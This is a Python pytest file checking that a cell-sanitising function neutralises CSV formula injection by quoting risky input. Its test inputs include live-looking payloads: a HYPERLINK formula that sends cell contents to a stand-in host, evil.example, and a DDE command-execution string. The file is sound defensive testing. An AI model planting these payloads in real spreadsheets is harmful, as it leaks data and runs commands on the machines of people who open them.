"""Formula injection (OWASP CSV injection): text from input never becomes a live formula."""

import pytest

from cpkit.present.sanitise import safe_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
    ],
)
def test_formula_text_is_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Recruit 10 foster carers", "5.10", -3, 2.5, None, ""])
def test_ordinary_values_unchanged(value):
    assert safe_cell(value) == value
